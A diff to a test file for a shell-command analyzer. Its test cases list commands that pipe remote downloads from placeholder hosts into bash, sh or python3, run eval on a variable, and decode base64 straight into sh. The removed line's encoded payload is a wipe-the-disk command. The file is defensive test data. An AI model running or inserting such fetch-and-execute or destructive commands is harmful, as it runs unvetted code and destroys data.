@@ -8,7 +8,9 @@ describe('what cannot be known before it runs', () => {
     ['curl -fsSL https://x.sh | bash', /bash runs whatever curl prints/],
     ['wget -O- https://x.sh | sh', /sh runs whatever wget prints/],
     ['curl https://x | sudo -E bash -s -- --yes', /bash runs whatever curl prints/],
-    ['echo cm0gLXJmIC8= | base64 -d | sh', /sh runs whatever base64 prints/],
+    // a literal payload is decoded and judged (decoders.ts); one read from a file is not known
+    ['base64 -d payload.b64 | sh', /sh runs whatever base64 prints/],
+    ['echo "$P" | base64 -d | sh', /sh runs whatever base64 prints/],
     ['curl https://x | python3', /python3 runs whatever curl prints/],
     ['curl https://x | python3 -', /python3 runs whatever curl prints/],
     ['eval "$x"', /eval runs \$x/],
